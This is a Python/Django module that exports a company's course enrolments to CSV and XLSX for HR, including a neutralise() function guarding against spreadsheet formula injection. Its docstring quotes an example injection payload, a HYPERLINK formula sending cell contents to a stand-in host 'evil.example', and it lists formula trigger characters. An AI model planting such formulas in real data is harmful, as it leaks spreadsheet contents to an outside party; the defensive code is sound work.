"""The company's enrolments as a spreadsheet for HR: CSV and XLSX.

Both formats come from the same rows (:func:`export_rows`), read with one query. Every text
cell passes through :func:`neutralise` first, because names and course titles are typed in by
people outside HR's control and the file is opened in a spreadsheet program.
"""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from decimal import ROUND_HALF_UP, Decimal

from django.utils import timezone
from django.utils.translation import gettext as _
from django.utils.translation import gettext_lazy
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from . import selectors
from .models import Company

Cell = str | int | Decimal | date | None

# Column headers and, for the XLSX, each column's width (in characters) and number format.
COLUMNS = [
    (gettext_lazy("Achternaam"), 22, None),
    (gettext_lazy("Voornaam"), 16, None),
    (gettext_lazy("E-mailadres"), 30, None),
    (gettext_lazy("Cursus"), 36, None),
    (gettext_lazy("Locatie"), 24, None),
    (gettext_lazy("Startdatum"), 12, "yyyy-mm-dd"),
    (gettext_lazy("Einddatum"), 12, "yyyy-mm-dd"),
    (gettext_lazy("Status"), 16, None),
    (gettext_lazy("Plaats op wachtlijst"), 10, "0"),
    (gettext_lazy("Prijs excl. btw"), 14, "#,##0.00"),
    (gettext_lazy("Btw-tarief"), 10, "0.00"),
    (gettext_lazy("Btw"), 12, "#,##0.00"),
    (gettext_lazy("Prijs incl. btw"), 14, "#,##0.00"),
    (gettext_lazy("Studie-uren"), 10, "0.0"),
    (gettext_lazy("Subsidiabel"), 11, None),
]

# Spreadsheet programs read a cell that starts with one of these as a formula (tab and carriage
# return too: some programs strip them and then see the formula behind them).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

CENT = Decimal("0.01")


def neutralise(value: Cell) -> Cell:
    """Make a text cell inert against formula injection (CSV/XLSX injection, OWASP).

    A learner may call themself ``=HYPERLINK("https://evil.example?"&A1, "Klik")``; if HR opens
    the export in Excel or LibreOffice, that cell would run as a formula and could leak other
    cells or start programs. A leading apostrophe makes the program treat the cell as text (it
    is the escape Excel itself uses), so text starting with ``=``, ``+``, ``-``, ``@``, a tab or
    a carriage return gets one. Everything else, including numbers and dates, passes unchanged:
    a phone number like ``+31...`` keeps its digits and merely shows the apostrophe.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return f"'{value}"
    return value


def _local_date(moment: datetime | None) -> date | None:
    return timezone.localdate(moment) if moment is not None else None


def export_rows(*, company: Company) -> list[list[Cell]]:
    """One row per enrolment the company pays for, in the order of the dashboard.

    Values keep their types (dates, Decimals, ints) so each format can write them properly;
    course and location names are in the active language, text is not yet neutralised.
    One query.
    """
    rows = []
    for enrolment in selectors.company_enrolments(company=company):
        learner = enrolment.learner
        course = enrolment.offering.course
        price = enrolment.price_excl_vat
        vat = (price * enrolment.vat_rate / 100).quantize(CENT, rounding=ROUND_HALF_UP)
        rows.append(
            [
                learner.last_name,
                learner.first_name,
                learner.email,
                course.localized("title"),
                enrolment.offering.location.localized("name"),
                _local_date(enrolment.first_starts_at),
                _local_date(enrolment.last_ends_at),
                enrolment.get_status_display(),
                enrolment.waitlist_position,
                price,
                enrolment.vat_rate,
                vat,
                price + vat,
                course.study_hours,
                _("ja") if course.funding_eligible else _("nee"),
            ]
        )
    return rows


def headers() -> list[str]:
    """The column headers in the active language."""
    return [str(title) for title, _width, _format in COLUMNS]


def _csv_value(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal):
        # A decimal point, never a comma: the CSV is for other programs too, and a point is
        # what every parser accepts. HR who want Excel to see numbers take the XLSX.
        return str(value)
    return str(neutralise(value))


def to_csv(rows: Iterable[list[Cell]]) -> bytes:
    """The rows as CSV for Dutch Excel: UTF-8 with a byte-order mark, semicolon-separated.

    The BOM makes Excel read UTF-8 (else names like "Hüseyin" break); Dutch Excel splits
    columns on semicolons, because its decimal separator is the comma. Dates are ISO.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([neutralise(header) for header in headers()])
    for row in rows:
        writer.writerow([_csv_value(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(rows: Iterable[list[Cell]]) -> bytes:
    """The rows as an Excel workbook: real numbers and dates, bold frozen header row."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = str(_("Inschrijvingen"))[:31]
    sheet.append([neutralise(header) for header in headers()])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        sheet.append([neutralise(value) for value in row])
    for index, (_title, width, number_format) in enumerate(COLUMNS, start=1):
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = width
        if number_format:
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = number_format
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = sheet.dimensions
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def filename(*, company: Company, extension: str, today: date | None = None) -> str:
    """``inschrijvingen-<company-slug>-<YYYY-MM-DD>.<extension>``."""
    today = today or timezone.localdate()
    return f"inschrijvingen-{company.slug}-{today.isoformat()}.{extension}"
